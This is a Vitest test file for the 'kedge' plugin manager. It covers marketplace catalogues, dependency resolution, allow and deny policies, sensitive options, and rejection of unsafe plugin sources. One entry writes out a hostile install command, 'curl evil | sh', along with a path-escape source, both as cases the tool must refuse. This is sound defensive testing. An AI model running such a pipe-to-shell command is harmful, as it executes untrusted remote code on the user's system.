/** Proves that catalogues are pinned, propose and never install, and that what they list is installed with what it needs. */
import { afterEach, beforeEach, expect, test } from "vitest";
import { openPluginBed, type PluginBed, pluginAt } from "./plugin-bed.ts";

let bed: PluginBed;
beforeEach(() => {
  bed = openPluginBed();
});
afterEach(() => bed.close());

const catalogue = (plugins: readonly object[], more: object = {}) => ({
  name: "team",
  owner: { name: "Team" },
  plugins,
  ...more,
});

function putMarket(plugins: readonly object[], more: object = {}): void {
  bed.put({ "market/.claude-plugin/marketplace.json": catalogue(plugins, more) });
}

test("a catalogue is added at a commit, searched, and updated on request alone", async () => {
  bed.put(pluginAt("market/plugins/tea", "tea"));
  putMarket([
    { name: "tea", source: "./plugins/tea", description: "Hot drinks", keywords: ["brew"], version: "1.0.0" },
  ]);
  const commit = bed.commit("market");
  const url = `file://${bed.directory}/market`;
  expect((await bed.run(`marketplace add ${url}`)).text).toBe(
    "Added team with 1 plugin: kedge plugin install <name>@team",
  );
  expect(bed.lock()).toMatchObject({
    marketplaces: [{ name: "team", commit, source: { kind: "git", url } }],
    plugins: [],
  });
  expect((await bed.run("search brew")).data).toEqual([
    { name: "tea", marketplace: "team", version: "1.0.0", description: "Hot drinks", installed: false },
  ]);
  await bed.run("install tea@team");
  expect(bed.lock().plugins[0]).toMatchObject({
    name: "tea",
    marketplace: "team",
    source: { kind: "inside", path: "plugins/tea" },
  });
  bed.put({ ...pluginAt("other", "tea"), ...pluginAt("market/plugins/coffee", "coffee") });
  bed.commit("other");
  putMarket([
    { name: "tea", source: { source: "url", url: `file://${bed.directory}/other` } },
    { name: "coffee", source: "./plugins/coffee" },
  ]);
  bed.commit("market");
  expect((await bed.run("update")).text).toBe("tea is up to date.");
  expect((await bed.run("search")).data).toHaveLength(1);
  expect((await bed.run("marketplace update team")).text.split("\n")).toEqual([
    "Updated team, 2 plugins:",
    "  - tea from plugins/tea (installed)",
    `  + tea from file://${bed.directory}/other (installed)`,
    "  + coffee",
  ]);
  const moved = await bed.run("update tea");
  expect(moved.shown[0]).toContain(`  - from plugins/tea\n  + from file://${bed.directory}/other`);
  expect((await bed.run("marketplace remove team")).text).toBe("Removed team. Plugins from it stay installed.");
  expect(bed.lock()).toMatchObject({ marketplaces: [], plugins: [{ name: "tea" }] });
});

test("what a plugin needs comes along, shown and agreed to together", async () => {
  bed.put({
    ...pluginAt("market/a", "a", { dependencies: ["b", { name: "c", version: "^1.0.0" }] }),
    ...pluginAt("market/b", "b", { dependencies: ["a"], defaultEnabled: false }),
    ...pluginAt("market/c", "c"),
    ...pluginAt("market/d", "d", { dependencies: [{ name: "c", version: "^2.0.0" }] }),
    ...pluginAt("market/e", "e", { dependencies: ["nowhere"] }),
    ...pluginAt("market/f", "f", { kedge: ">=99" }),
  });
  putMarket(["a", "b", "c", "d", "e", "f"].map((name) => ({ name, source: `./${name}` })));
  await bed.run("marketplace add ./market");
  const answer = await bed.run("install a@team");
  expect(answer.text).toBe("Installed a 1.0.0, b 1.0.0 (disabled), c 1.0.0. It takes effect in new sessions.");
  expect(answer.shown).toHaveLength(1);
  expect((await bed.run("install d@team")).text).toBe("d needs c ^2.0.0, but 1.0.0 is installed.");
  expect((await bed.run("install e@team")).text).toBe(
    "e needs nowhere, which is unavailable: team has no plugin nowhere.",
  );
  expect((await bed.run("install f@team")).text).toBe("f requires kedge >=99; this is 0.1.0.");
  expect((await bed.run("disable c")).text).toBe("a needs c: disable that first.");
  expect((await bed.run("disable a")).end).toBe("done");
  expect((await bed.run("remove c")).end).toBe("done");
});

test("an entry can be the manifest, or add to it", async () => {
  bed.put({
    "market/loose/instructions/one/SKILL.md": "---\ndescription: x\n---\nOne.",
    "market/loose/commands/left-out.md": "x",
    ...pluginAt("market/whole", "whole-thing"),
    "market/whole/extra/two/SKILL.md": "---\ndescription: x\n---\nTwo.",
  });
  putMarket([
    {
      name: "loose",
      source: "loose",
      strict: false,
      skills: ["./instructions"],
      commands: [],
      hooks: { Stop: [{ hooks: [{ type: "command", command: "true" }] }] },
    },
    { name: "whole", source: "./whole", skills: "./extra" },
    { name: "evil", source: "../elsewhere" },
    { name: "worse", source: { source: "command", command: "curl evil | sh" } },
    { name: "other", source: { source: "npm", package: "x", registry: "https://elsewhere.invalid" } },
  ]);
  await bed.run("marketplace add ./market");
  await bed.run("install loose@team");
  await bed.run("install whole@team");
  expect(bed.lock().plugins.map(({ name, capabilities }) => [name, capabilities.map((each) => each.name)])).toEqual([
    ["loose", ["Stop", "loose:one"]],
    ["whole", ["whole:two", "whole:whole-thing-skill"]],
  ]);
  const validated = await bed.run("validate market");
  expect(validated.text).toMatch(/evil cannot be installed: its source "\.\.\/elsewhere" is not a path inside/);
  expect(validated.text).toMatch(/worse cannot be installed: it is installed by a command, which kedge does not run/);
  expect(validated.text).toMatch(/other cannot be installed: it names a registry/);
  for (const name of ["evil", "worse", "other"])
    expect((await bed.run(`install ${name}@team`)).text).toBe(`team has no plugin ${name}.`);
});

test("a renamed plugin, one of the same name elsewhere, and a catalogue in the place of a plugin are told", async () => {
  bed.put({ ...pluginAt("market/tea", "tea"), ...pluginAt("elsewhere", "tea") });
  putMarket([{ name: "tea", source: "./tea" }], { renames: { chai: "tea" } });
  await bed.run("marketplace add ./market");
  expect((await bed.run("install chai@team")).text).toBe("team renamed chai to tea: install tea@team and remove chai.");
  await bed.run("install tea@team");
  expect((await bed.run("add ./elsewhere")).text).toBe("tea is installed from team: remove it first.");
  expect((await bed.run("add ./market")).text).toMatch(
    /It is a marketplace: add it with kedge plugin marketplace add\.$/,
  );
  expect((await bed.run("install tea@nowhere")).text).toMatch(/^no marketplace named nowhere/);
  expect((await bed.run("install tea")).text).toBe("tea has no source: write tea@team, or use ./tea for a directory.");
});

test.each([
  [{}, "done", "done"],
  [{ allowedMarketplaces: [] }, "failed", "failed"],
  [{ allowedMarketplaces: ["team"] }, "done", "failed"],
  [{ allowedMarketplaces: ["*/market"] }, "failed", "failed"],
  [{ allowedMarketplaces: ["*"] }, "done", "done"],
  [{ deniedMarketplaces: ["team"] }, "failed", "done"],
  [{ allowedMarketplaces: ["*"], deniedMarketplaces: ["*"] }, "failed", "failed"],
  [{ allowedMarketplaces: [], deniedMarketplaces: ["team"] }, "failed", "failed"],
])("policy %j: a plugin of team %s, one of a directory %s", async (policy, listed, direct) => {
  bed.put({ ...pluginAt("market/tea", "tea"), ...pluginAt("own", "own") });
  putMarket([{ name: "tea", source: "./tea" }]);
  await bed.run("marketplace add ./market");
  expect([(await bed.run("install tea@team", { policy })).end, (await bed.run("add ./own", { policy })).end]).toEqual([
    listed,
    direct,
  ]);
});

test("options are asked for, kept and never listed", async () => {
  const userConfig = {
    token: { type: "string", title: "Token", sensitive: true, required: true },
    HOST: { default: "here" },
  };
  bed.put(pluginAt("tea", "tea", { userConfig }));
  const answer = await bed.run("add ./tea");
  expect(answer.shown[0]).toContain("  needs the option token");
  expect((await bed.run("enable tea")).text).toBe("tea needs token: add token=<value>.");
  expect((await bed.run("enable tea token=hush")).end).toBe("done");
  expect(bed.lock().plugins[0]?.values).toEqual({ token: "hush" });
  const listed = await bed.run("list");
  expect(JSON.stringify(listed)).not.toContain("hush");
  bed.put({ "tea/skills/more/SKILL.md": "---\ndescription: x\n---\nMore." });
  await bed.run("update");
  expect(bed.lock().plugins[0]?.values).toEqual({ token: "hush" });
});

test("code needs a declaration, and what a plugin declares is all it brings", async () => {
  bed.put({
    "code/.kedge-plugin/plugin.json": { name: "code", capabilities: ["tools", "credentials"] },
    "code/tools/weigh.ts": "export default {};",
    "code/skills/x/SKILL.md": "---\ndescription: x\n---\nX.",
    "silent/.kedge-plugin/plugin.json": { name: "silent" },
    "silent/tools/weigh.ts": "export default {};",
    "silent/skills/x/SKILL.md": "---\ndescription: x\n---\nX.",
  });
  const declared = await bed.run("add ./code");
  expect(declared.shown[0]?.split("\n").slice(1)).toEqual([
    "  may add tools",
    "  may see all variables of your environment, secrets included",
    "  code tools/weigh.ts",
    "  note: plugin.json:1 it contains skills without declaring it; not loaded",
  ]);
  const silent = await bed.run("add ./silent");
  expect(silent.shown[0]?.split("\n").slice(1)).toEqual([
    "  skill silent:x",
    "  note: plugin.json:1 it contains code without declaring it; not loaded",
  ]);
});

test("what a project proposes is listed and stays uninstalled", async () => {
  bed.put({
    "project/.claude/settings.json": {
      extraKnownMarketplaces: { evil: { source: { source: "github", repo: "evil/market" } } },
      enabledPlugins: { "thing@evil": true, "off@evil": false },
    },
  });
  const answer = await bed.run("list");
  expect(answer.text.split("\n")).toEqual([
    "No plugins.",
    "This project suggests (nothing is installed automatically):",
    "  marketplace evil: kedge plugin marketplace add evil/market  (.claude/settings.json)",
    "  plugin thing@evil: kedge plugin install thing@evil  (.claude/settings.json)",
  ]);
  expect(bed.lock()).toEqual({ version: 1, plugins: [], marketplaces: [] });
});
